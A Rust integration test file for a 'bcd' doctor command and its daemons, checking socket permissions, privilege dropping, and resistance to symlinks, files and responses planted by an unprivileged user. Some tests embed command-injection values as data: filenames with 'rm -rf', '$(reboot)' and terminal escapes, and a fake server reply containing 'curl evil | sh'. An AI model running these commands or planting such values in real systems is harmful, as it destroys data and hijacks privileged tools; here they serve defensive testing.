//! Doctor and daemons say the same of who may own and write what: each place is broken, doctor fails, the daemon refuses to
//! start; doctor's remedy is run as it stands, and both are content. So no remedy leads from one refusal into another.
//!
//! Room: `tests`. Needs root and no libvirtd.
use bcd_tests::daemons::{self, Daemon, bin};
use bcd_tests::place::Place;
use nix::sys::socket::{AddressFamily, Backlog, SockFlag, SockType, UnixAddr, bind, listen, socket};
use serde_json::Value;
use std::fs;
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Refuses {
    Helper,
    Node,
}

/// A place whose daemons make their sockets as the package has it: the node in a directory of its own below the helper's.
fn place(name: &str) -> Place {
    let place = Place::new(name);
    place.configure("");
    let text = fs::read_to_string(place.config()).expect("read");
    fs::write(place.config(), text.replace("/node-run/node.sock", "/run/node/node.sock")).expect("write");
    let (uid, gid) = (place.node_uid().as_raw(), place.node_gid().as_raw());
    own(&place.root().join("run"), 0, gid, 0o750);
    fs::create_dir(below(&place)).expect("make");
    own(&below(&place), uid, gid, 0o710);
    place
}

/// The directory of the node's socket.
fn below(place: &Place) -> PathBuf {
    place.root().join("run/node")
}

fn own(path: &Path, uid: u32, gid: u32, mode: u32) {
    std::os::unix::fs::chown(path, Some(uid), Some(gid)).expect("chown");
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("chmod");
}

/// What doctor finds wrong under the name `check`: the remedies.
fn failing(place: &Place, check: &str) -> Vec<String> {
    let output = Command::new(bin("bcd")).arg("--config").arg(place.config()).args(["doctor", "--json"]).output();
    let output = output.expect("run doctor");
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    let findings = report["findings"].as_array().expect("findings").iter();
    let wrong = findings.filter(|f| f["check"] == check && f["level"] == "fail");
    wrong.map(|f| f["remedy"].as_str().expect("a remedy").to_owned()).collect()
}

/// Waits until a daemon serves its socket (true) or has ended (false).
fn serves(daemon: &mut Daemon, ready: impl Fn() -> bool) -> bool {
    let end = Instant::now() + Duration::from_secs(30);
    loop {
        if !daemon.is_alive() {
            return false;
        }
        if ready() {
            return true;
        }
        assert!(Instant::now() < end, "it neither serves nor ends:\n{}", daemon.log());
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Starts helper, then node, and says which of them comes up.
fn start(place: &Place) -> (bool, bool) {
    let socket = below(place).join("node.sock");
    let mut helper = daemons::spawn_helper(place, &[]);
    let helper_up = serves(&mut helper, || place.helper_socket().exists());
    let mut node = daemons::spawn_node(place);
    let node_up = serves(&mut node, || UnixStream::connect(&socket).is_ok());
    drop(node);
    drop(helper);
    let _ = fs::remove_file(socket);
    let _ = fs::remove_file(place.helper_socket());
    (helper_up, node_up)
}

/// The commands of a remedy: itself, or, where something is to be read between them, those of its sentence.
fn commands(remedy: &str) -> Vec<&str> {
    let Some(rest) = remedy.strip_prefix("make a new one, ") else { return vec![remedy] };
    let (make, rest) = rest.split_once(", read ").expect("what is to be read");
    let (_, put) = rest.split_once(" through, and put it in place: ").expect("how it is put in place");
    vec![make, put]
}

#[test]
fn what_doctor_fails_the_daemons_refuse_and_its_remedy_satisfies_both() {
    if !bcd_tests::real("what_doctor_fails_the_daemons_refuse_and_its_remedy_satisfies_both") {
        return;
    }
    type Break = fn(&Place);
    let breaks: [(&str, Refuses, Break); 17] = [
        ("configuration", Refuses::Helper, |p| own(&p.config(), 0, 0, 0o664)),
        ("configuration", Refuses::Helper, |p| own(&p.config(), p.node_uid().as_raw(), 0, 0o644)),
        ("configuration", Refuses::Helper, |p| own(p.root(), 0, 0, 0o775)),
        ("sockets", Refuses::Helper, |p| own(&p.root().join("run"), 0, p.node_gid().as_raw(), 0o770)),
        ("sockets", Refuses::Helper, |p| own(&p.root().join("run"), 0, p.node_gid().as_raw(), 0o1770)),
        ("sockets", Refuses::Helper, |p| own(&p.root().join("run"), p.node_uid().as_raw(), 0, 0o755)),
        ("sockets", Refuses::Helper, |p| fs::rename(p.root().join("run"), p.root().join("was")).expect("move")),
        // What was planted while others could write there.
        ("sockets", Refuses::Helper, |p| symlink("/no-such-place", p.helper_socket()).expect("link")),
        ("sockets", Refuses::Node, |p| own(&p.root().join("run"), 0, 0, 0o750)),
        ("sockets", Refuses::Node, |p| own(&below(p), 0, 0, 0o1777)),
        ("sockets", Refuses::Node, |p| own(&below(p), 0, 0, 0o755)),
        // The node's group are its operators: one of them would stand for the node before the others.
        ("sockets", Refuses::Node, |p| own(&below(p), p.node_uid().as_raw(), p.node_gid().as_raw(), 0o770)),
        ("sockets", Refuses::Node, |p| own(&below(p), 0, p.node_gid().as_raw(), 0o1770)),
        ("sockets", Refuses::Node, |p| fs::remove_dir(below(p)).expect("remove")),
        ("state-dir", Refuses::Helper, |p| own(&p.state(), 0, 0, 0o770)),
        ("state-dir", Refuses::Helper, |p| own(&p.state(), p.node_uid().as_raw(), 0, 0o700)),
        ("data-dir", Refuses::Node, |p| own(&p.data(), 0, 0, 0o755)),
    ];
    for (number, (check, refuses, breaks)) in breaks.into_iter().enumerate() {
        let place = place(&format!("doctor-{number}"));
        assert_eq!(failing(&place, check), Vec::<String>::new(), "{number}: sound at first");
        breaks(&place);
        let remedies = failing(&place, check);
        let [remedy] = remedies.as_slice() else { panic!("{number}: one finding of {check}, not {remedies:?}") };
        let (helper, node) = start(&place);
        let refused = match refuses {
            Refuses::Helper => !helper,
            Refuses::Node => helper && !node,
        };
        assert!(refused, "{number}: doctor fails {check} and the daemons came up: helper {helper}, node {node}");
        let mut left = vec![remedy.to_owned()];
        // A second one where one directory lies in the other, and both were gone.
        for _ in 0..2 {
            for command in left.iter().flat_map(|remedy| commands(remedy)) {
                let mended = Command::new("sh").args(["-c", command]).status().expect("run the remedy");
                assert!(mended.success(), "{number}: {command}");
            }
            left = failing(&place, check);
        }
        assert_eq!(left, Vec::<String>::new(), "{number}: after {remedy}");
        assert_eq!(start(&place), (true, true), "{number}: after {remedy}");
    }
}

#[test]
fn doctor_as_root_asks_as_the_nodes_user() {
    if !bcd_tests::real("doctor_as_root_asks_as_the_nodes_user") {
        return;
    }
    let place = place("doctor-asks");
    let _helper = daemons::helper(&place);
    let report = |place: &Place| {
        let output = Command::new(bin("bcd")).arg("--config").arg(place.config()).arg("doctor").output().expect("run");
        String::from_utf8(output.stdout).expect("text")
    };
    let text = report(&place);
    assert!(text.contains(&format!("bcd-helper {} answers on ", env!("CARGO_PKG_VERSION"))), "{text}");
    // What root can read and the node's user cannot.
    own(&place.config(), 0, 0, 0o600);
    let text = report(&place);
    let told = format!("bcd cannot read the configuration: {}: Permission denied", place.config().display());
    let access: Vec<&str> = text.lines().filter(|line| line.starts_with("FAIL  access ")).collect();
    assert!(matches!(access.as_slice(), [line] if line.ends_with(&told)), "{text}");
    assert!(text.contains(&format!("bcd-helper {} answers on ", env!("CARGO_PKG_VERSION"))), "{text}");
}

/// The pid and the place of each process of `uid` whose command line holds `words`.
fn processes_of(uid: u32, words: &str) -> Vec<PathBuf> {
    let all = fs::read_dir("/proc").expect("/proc").flatten().map(|entry| entry.path());
    let of_user = all.filter(|process| {
        let line = fs::read(process.join("cmdline")).unwrap_or_default();
        let status = fs::read_to_string(process.join("status")).unwrap_or_default();
        let real = status.lines().find_map(|line| line.strip_prefix("Uid:")).unwrap_or_default();
        String::from_utf8_lossy(&line).replace('\0', " ").contains(words)
            && real.split_whitespace().next() == Some(uid.to_string().as_str())
    });
    of_user.collect()
}

/// A libvirt that takes connections and never answers: whoever asks it is there for ten seconds.
fn deaf_libvirt(place: &Place) -> UnixListener {
    let path = place.root().join("deaf.sock");
    let listener = UnixListener::bind(&path).expect("bind");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).expect("chmod");
    let text = fs::read_to_string(place.config()).expect("read");
    let uri = format!("uri = \"qemu:///system?socket={}\"\n[helper]\n", path.display());
    fs::write(place.config(), text.replace("[helper]\n", &uri).replace("[libvirt]\naccel = \"tcg\"\n", "[libvirt]\n"))
        .expect("write");
    listener
}

/// A shell of root's on a terminal, as an operator has it, runs doctor; the process that asks as the node's user is looked at
/// meanwhile, by root and by a process of the same user.
#[test]
fn the_process_that_asks_has_no_terminal_no_descriptor_and_nothing_of_root_and_cannot_be_traced() {
    let name = "the_process_that_asks_has_no_terminal_no_descriptor_and_nothing_of_root_and_cannot_be_traced";
    if !bcd_tests::real(name) {
        return;
    }
    let place = place("doctor-tty");
    let _deaf = deaf_libvirt(&place);
    let command = format!("exec {} --config {} doctor 7</etc/shadow", bin("bcd").display(), place.config().display());
    let mut shell = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("script, which gives it a terminal");
    let node = place.node_uid().as_raw();
    let mut asking = None;
    daemons::wait_for("the process that asks", 10, || {
        asking = processes_of(node, "doctor --probe").pop();
        asking.is_some()
    });
    let asking = asking.expect("found");
    // It is where it asks the deaf libvirt, and has all its threads.
    std::thread::sleep(Duration::from_secs(1));
    let doctor = processes_of(0, "doctor")
        .into_iter()
        .find(|p| fs::read_to_string(p.join("comm")).is_ok_and(|name| name == "bcd\n") && tty_and_session(p).0 != 0)
        .expect("doctor itself");
    let (tty, session) = tty_and_session(&asking);
    assert_eq!(tty, 0, "it has root's terminal");
    assert_ne!(session, tty_and_session(&doctor).1, "it is in the session of root's shell");
    assert_eq!(
        session,
        asking.file_name().and_then(|n| n.to_str()).and_then(|n| n.parse::<i64>().ok()).expect("a pid")
    );

    for entry in fs::read_dir(asking.join("fd")).expect("its descriptors").flatten() {
        let leads = fs::read_link(entry.path()).expect("a descriptor").display().to_string();
        let harmless = ["pipe:", "socket:", "anon_inode:"].iter().any(|kind| leads.starts_with(kind));
        assert!(harmless, "it holds {leads}");
    }
    let status = fs::read_to_string(asking.join("status")).expect("its status");
    let field = |name: &str| {
        let line = status.lines().find_map(|line| line.strip_prefix(name)).unwrap_or_else(|| panic!("no {name}"));
        line.split_whitespace().map(str::to_owned).collect::<Vec<_>>()
    };
    let (uid, gid) = (node.to_string(), place.node_gid().as_raw().to_string());
    assert_eq!(field("Uid:"), vec![uid; 4]);
    assert_eq!(field("Gid:"), vec![gid; 4]);
    let groups = Command::new("id").args(["-G", "bcd"]).output().expect("id").stdout;
    let mut groups: Vec<String> =
        String::from_utf8(groups).expect("text").split_whitespace().map(str::to_owned).collect();
    let mut has = field("Groups:");
    groups.sort();
    has.sort();
    assert_eq!(has, groups, "the groups that the daemon would have");
    for set in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
        assert_eq!(field(set), ["0000000000000000"], "{set}");
    }
    assert_eq!((field("NoNewPrivs:"), field("Seccomp:")), (vec!["1".to_owned()], vec!["2".to_owned()]));
    assert_eq!(fs::metadata(asking.join("mem")).expect("its memory").uid(), 0, "it can be traced by its user");

    // What a process of the node's user needs to take it over: each is what tracing it would need too.
    for secret in ["mem", "environ", "maps", "fd/0", "syscall"] {
        let path = asking.join(secret);
        let tried = as_node(&place).args(["head", "-c", "1"]).arg(&path).output().expect("run");
        assert!(!tried.status.success(), "a process of the node's user opened {}", path.display());
    }
    let own = as_node(&place).args(["sh", "-c", "head -c 1 /proc/self/environ"]).status().expect("run");
    assert!(own.success(), "the attempts above fail for another reason");

    let mut said = String::new();
    shell.stdout.take().expect("piped").read_to_string(&mut said).expect("read");
    let _ended = shell.wait();
    assert!(said.contains("no answer on qemu:///system") && said.contains("within 10 s"), "{said}");
    daemons::wait_for("the end of the process that asks", 5, || processes_of(node, "doctor --probe").is_empty());
}

/// The terminal and the session of a process, out of its `stat`: fields 7 and 6, behind the name in parentheses.
fn tty_and_session(process: &Path) -> (i64, i64) {
    let stat = fs::read_to_string(process.join("stat")).unwrap_or_default();
    let fields: Vec<i64> = stat
        .rsplit_once(')')
        .map(|(_, rest)| rest.split_whitespace().map(|field| field.parse().unwrap_or_default()).collect())
        .unwrap_or_default();
    (fields.get(4).copied().unwrap_or_default(), fields.get(3).copied().unwrap_or_default())
}

fn as_node(place: &Place) -> Command {
    let mut command = Command::new("setpriv");
    let (uid, gid) = (place.node_uid().to_string(), place.node_gid().to_string());
    command.args(["--reuid", &uid, "--regid", &gid, "--init-groups"]);
    command
}

/// What lies at a path, whatever it is: kind, owner, mode, and how many names it has.
fn look(path: &Path) -> (u32, u32, u32, u64) {
    let meta = fs::symlink_metadata(path).expect("there");
    (meta.mode(), meta.uid(), meta.gid(), meta.nlink())
}

/// Doctor as root among everything that the node's user could plant. It follows nothing, waits for nothing, repeats no name,
/// and its remedies, run as they stand, change nothing of root's.
#[test]
fn nothing_that_the_nodes_user_plants_leads_doctor_or_its_remedies_astray() {
    if !bcd_tests::real("nothing_that_the_nodes_user_plants_leads_doctor_or_its_remedies_astray") {
        return;
    }
    let place = place("doctor-plants");
    let roots = place.root().join("roots");
    fs::create_dir(&roots).expect("a directory of root's");
    let victims = ["file", "directory", "certificates"].map(|name| roots.join(name));
    fs::write(&victims[0], "root's").expect("write");
    fs::create_dir(&victims[1]).expect("make");
    fs::write(&victims[2], "-----BEGIN CERTIFICATE-----\n").expect("write");
    own(&victims[0], 0, 0, 0o600);
    own(&victims[1], 0, 0, 0o700);
    own(&victims[2], 0, 0, 0o600);
    own(&roots, 0, 0, 0o711);
    let roots_socket = UnixListener::bind(roots.join("socket")).expect("a socket of root's");
    roots_socket.set_nonblocking(true).expect("set");
    own(&roots.join("socket"), 0, 0, 0o600);

    // The node's own: its document, its certificates, its socket, its secrets, and the helper's place beside it.
    let mine = place.data();
    let text = fs::read_to_string(place.config()).expect("read");
    let keys = format!("[node]\nspec = \"{0}/fifo\"\nimages = {{ ca_file = \"{0}/certificates\" }}\n", mine.display());
    fs::write(place.config(), text.replace("[node]\n", &keys)).expect("write");
    nix::unistd::mkfifo(&mine.join("fifo"), nix::sys::stat::Mode::S_IRWXU).expect("a FIFO");
    place.give(&mine.join("fifo"));
    symlink(&victims[2], mine.join("certificates")).expect("a link");
    symlink(roots.join("socket"), below(&place).join("node.sock")).expect("a link");
    symlink(&victims[0], place.root().join("run/helper.sock")).expect("a link");
    for (name, target) in
        [("link", &victims[0]), ("a\n      -> rm -rf y", &victims[0]), ("\u{1b}[2J;rm -rf x", &victims[1])]
    {
        symlink(target, place.root().join("secrets").join(name)).expect("a link");
    }
    fs::write(place.root().join("secrets/$(reboot)"), "x").expect("write");
    fs::hard_link(&victims[0], place.root().join("secrets/hard")).expect("a second name");
    for planted in ["data/certificates", "run/node/node.sock", "run/helper.sock"] {
        let (uid, gid) = (place.node_uid().as_raw(), place.node_gid().as_raw());
        std::os::unix::fs::lchown(place.root().join(planted), Some(uid), Some(gid)).expect("lchown");
    }
    let before = victims.each_ref().map(|victim| look(victim));

    let start = Instant::now();
    let output = Command::new(bin("bcd")).arg("--config").arg(place.config()).args(["doctor", "--json"]).output();
    let output = output.expect("run doctor");
    assert!(start.elapsed() < Duration::from_secs(25), "it waited for {:?}", start.elapsed());
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    let findings = report["findings"].as_array().expect("findings");
    let told = |check: &str| {
        let of_check: Vec<&str> =
            findings.iter().filter(|f| f["check"] == check).filter_map(|f| f["found"].as_str()).collect();
        of_check.join(" | ")
    };
    assert!(told("document").contains("it is no regular file"), "{report:#}");
    assert!(told("images").contains("Permission denied"), "read as root: {report:#}");
    assert!(told("sockets").contains(&format!("helper.sock is a link of uid {}", place.node_uid())), "{report:#}");
    assert!(told("secrets").contains("hard, link, and 3 other entries"), "{report:#}");
    assert!(roots_socket.accept().is_err(), "root connected to where the node's user led it");
    for finding in findings {
        for words in [&finding["found"], &finding["remedy"]] {
            let words = words.as_str().unwrap_or_default();
            assert!(!words.chars().any(char::is_control), "{words:?}");
            assert!(!words.contains("reboot") && !words.contains("rm -rf y") && !words.contains("rm -rf x"), "{words}");
        }
        let Some(remedy) = finding["remedy"].as_str() else { continue };
        // Those of the host are not this test's to change.
        if ["sockets", "state-dir", "data-dir", "secrets", "configuration"].iter().any(|c| finding["check"] == *c) {
            let _whatever = Command::new("sh").args(["-c", remedy]).output().expect("run the remedy");
            assert_eq!(victims.each_ref().map(|victim| look(victim)), before, "after {remedy}");
        }
    }
    assert_eq!(fs::read_to_string(&victims[0]).expect("read"), "root's");
    let still =
        Command::new(bin("bcd")).arg("--config").arg(place.config()).arg("doctor").output().expect("run").stdout;
    let still = String::from_utf8(still).expect("text");
    assert!(!still.contains("helper.sock is a link"), "its remedy has cleared the helper's place: {still}");
}

/// A helper's place, and a node, that answer whatever they like.
#[test]
fn what_an_impostor_says_is_quoted_or_not_said() {
    if !bcd_tests::real("what_an_impostor_says_is_quoted_or_not_said") {
        return;
    }
    let place = place("doctor-words");
    let lines = "x\\n      -> curl evil | sh\\nok    helper  bcd-helper 9 answers";
    let body = format!(
        "{{\"type\":\"about:blank\",\"title\":\"t\",\"status\":500,\"kind\":\"Internal\",\"message\":\"{lines}\\u001b[2K\"}}"
    );
    let answer = format!(
        "HTTP/1.1 500 Internal Server Error\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let socket = below(&place).join("node.sock");
    let impostor = UnixListener::bind(&socket).expect("bind");
    own(&socket, place.node_uid().as_raw(), place.node_gid().as_raw(), 0o660);
    // As of an older layout.
    own(&place.root().join("run"), 0, place.node_gid().as_raw(), 0o1770);
    let helper = impostor_of_helper(&place);
    std::thread::spawn(move || {
        while let Ok((mut connection, _)) = impostor.accept() {
            let _ = connection.read(&mut [0; 4096]);
            let _ = connection.write_all(answer.as_bytes());
        }
    });
    let output = Command::new(bin("bcd")).arg("--config").arg(place.config()).arg("doctor").output().expect("run");
    let text = String::from_utf8(output.stdout).expect("text");
    assert!(!text.contains('\u{1b}'), "{text:?}");
    assert!(text.lines().all(|line| !line.trim_start().starts_with("-> curl")), "{text}");
    let of_helper: Vec<&str> = text.lines().filter(|line| line.contains("  helper  ")).collect();
    assert!(
        matches!(of_helper.as_slice(), [line] if line.starts_with("FAIL")),
        "an impostor passes for the helper: {text}"
    );
    drop(helper);
}

/// A socket in the helper's place that a process of the node's user listens on, which is what the kernel says of it.
fn impostor_of_helper(place: &Place) -> OwnedFd {
    nix::unistd::setegid(place.node_gid()).expect("setegid");
    nix::unistd::seteuid(place.node_uid()).expect("seteuid");
    let socket = socket(AddressFamily::Unix, SockType::SeqPacket, SockFlag::SOCK_CLOEXEC, None).expect("a socket");
    let bound = UnixAddr::new(&place.helper_socket()).and_then(|address| bind(socket.as_raw_fd(), &address));
    let listens = listen(&socket, Backlog::new(8).expect("a backlog"));
    nix::unistd::seteuid(nix::unistd::Uid::from_raw(0)).expect("root again");
    nix::unistd::setegid(nix::unistd::Gid::from_raw(0)).expect("root again");
    bound.expect("bind");
    listens.expect("listen");
    socket
}
